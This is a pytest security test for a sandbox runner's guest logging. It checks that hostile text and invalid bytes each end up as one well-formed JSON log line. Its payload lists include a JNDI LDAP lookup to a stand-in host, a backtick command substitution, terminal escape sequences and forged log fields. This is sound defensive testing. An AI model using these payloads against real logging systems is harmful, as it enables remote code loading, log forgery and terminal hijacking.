"""Texts that a guest logs: whatever JSON, terminals and formatters treat specially is one field of one valid line.

Family: specials × forms, logged by guests in real sandboxes, through the log import and through the error output.
"""

import json
import unicodedata
from collections.abc import Callable
from typing import Any, Final, NamedTuple

import pytest

from functions.runner.sandbox.child.local_imports import LOG_LINES_LIMIT
from tests.security.attacks import Attack, made
from tests.security.guests import wat_snippets
from tests.security.world import World
from tests.support.runner_fixture import INSTALL, TENANT
from tests.support.wat import guest

_CHARACTERS: Final = [
    *map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), *"\"\\/{}[]:,'`%$<>&",
    *"\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\ufffd\ufffe\uffff",
    "\U0001f600", "\U0010ffff", "e\u0301", "ä",
]  # fmt: skip
_SEQUENCES: Final = [
    # of JSON
    "NaN", "Infinity", "-Infinity", "null", "true", "1e999", "-0", "9" * 400,
    '"\\ud800"', '"\\udc00\\ud800"', "\\u0000",
    "\\u001b[2J", "\\", '\\"', '"}', '"},{"level":"ERROR"', "[]", "{}", '{"a":1,"a":2}', "[" * 2_000, '{"a":' * 500,
    "/*", "//", "\\x41", "\\N", '{"level":"CRITICAL","service":"registry","tenant_id":"globex"}',
    '{"_aws":{"CloudWatchMetrics":[{"Namespace":"x","Dimensions":[[]],"Metrics":[{"Name":"m"}]}]},"m":1}',
    # of terminals
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.test\x1b\\here\x1b]8;;\x1b\\", "\x1bP+q\x1b\\", "\x1bc",
    "\x9b31m", "\x9d0;title\x9c", "\x90q\x9c", "ab\x08\x08cd", "first\rsecond", "\x1b[1A\x1b[2K", "\x1b[?1049h", "\x0e",
    # of formatters, and of those who split lines
    "%s %(message)s %n %%", "{0} {level} {__class__}", "$HOME ${jndi:ldap://evil.test/a} `id`", "a\nb", "a\r\nb",
    "a\x0bb\x0cc\x1cd\x1ee\x85f\u2028g\u2029h", "",
]  # fmt: skip
_FORMS: Final[dict[str, Callable[[str], str]]] = {
    "alone": lambda text: text,
    "in the middle": lambda text: f"before {text} after",
    "many times": lambda text: text * (1 + 200 // max(len(text), 1)),
    "as a JSON text": json.dumps,
    "as a JSON value": lambda text: f'{{"a": {text}}}',
    "inside a JSON text": lambda text: f'{{"a": "{text}"}}',
}
TEXTS: Final = sorted({form(text) for text in (*_CHARACTERS, *_SEQUENCES) for form in _FORMS.values()})
BYTES: Final = [
    b"\xff", b"\xfe\xff", b"\xc0\x80", b"\xc1\xbf", b"\xe0\x80\x80", b"\xf0\x80\x80\x80", b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xed\xa0\x80", b"\xed\xa0\x80\xed\xb0\x80", b"\xed\xbf\xbf", b"\x80", b"\xc3", b"\xe2\x82", b"\xf0\x9f\x98",
    b"\x9b31m", b'"\xc3"', b"\xc3\x28", bytes(range(1, 10)) + bytes(range(11, 256)),
]  # fmt: skip
"""Lines that are not UTF-8. Only an output stream carries them: the log import takes text."""
_AT: Final = 10 * 65_536


class Logged(NamedTuple):
    status: int
    lines: list[str]
    documents: list[dict[str, Any]]


def _logging(texts: list[bytes]) -> bytes:
    calls, at = [], _AT
    for text in texts:
        calls.append(f"(call $logging.log-info (i32.const {at}) (i32.const {len(text)}))")
        at += len(text)
    code = "\n".join([*calls, wat_snippets.OK])
    content = wat_snippets.data(_AT, b"".join(texts))
    return guest(code, imports=["logging.log-info"], pages=40, data=content)


def _writing(lines: list[bytes]) -> bytes:
    content = b"".join(line + b"\n" for line in lines)
    assert len(content) <= 4_096
    code = f"""(local $stream i32) (local.set $stream (call $wasi.stderr))
      (call $wasi.write (local.get $stream) (i32.const 4096) (i32.const {len(content)}) (i32.const 2048))"""
    return guest(f"{code} {wat_snippets.OK}", wasi=["streams"], data=wat_snippets.data(4_096, content))


def _logged(world: World, component: bytes) -> Logged:
    found = made(world, Attack(lambda: component, None, call={"timeout_ms": 20_000}))
    assert (found.next_body, found.after) == (b"hello", found.before)
    lines = [line for line in found.log.lines if json.loads(line).get("guest")]
    return Logged(found.response.status, lines, [json.loads(line, parse_constant=pytest.fail) for line in lines])


@pytest.fixture(scope="module")
def by_import(world: World) -> Logged:
    assert len(TEXTS) <= LOG_LINES_LIMIT
    return _logged(world, _logging([text.encode() for text in TEXTS]))


@pytest.fixture(scope="module")
def by_stream(world: World) -> Logged:
    return _logged(world, _writing(BYTES))


def test_every_text_is_one_line_with_that_text_in_one_field(by_import: Logged) -> None:
    assert by_import.status == 200
    assert [document["message"] for document in by_import.documents] == TEXTS


def test_no_text_changes_another_field_of_its_line(by_import: Logged) -> None:
    first = by_import.documents[0]
    changing = {"message", "timestamp"}
    same = {name: value for name, value in first.items() if name not in changing}
    assert (same["level"], same["service"], same["source"]) == ("INFO", "runner", "guest")
    assert (same["tenant_id"], same["install_id"]) == (TENANT, INSTALL)
    for document in by_import.documents:
        assert {name: value for name, value in document.items() if name not in changing} == same


def test_bytes_that_are_no_text_are_one_well_formed_line(by_stream: Logged) -> None:
    assert by_stream.status == 200
    assert [document["message"] for document in by_stream.documents] == [
        line.decode("utf-8", "replace") for line in BYTES
    ]


@pytest.mark.parametrize("way", ["by_import", "by_stream"])
def test_no_line_holds_what_a_terminal_obeys_or_what_ends_a_line(way: str, request: pytest.FixtureRequest) -> None:
    lines: list[str] = request.getfixturevalue(way).lines
    for line in lines:
        assert line.encode().decode() == line
        assert len(line.splitlines()) == 1
        assert not [one for one in line if unicodedata.category(one) == "Cc"]
        assert not set(line) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def test_the_family_has_this_many_members() -> None:
    assert len(TEXTS) > 600
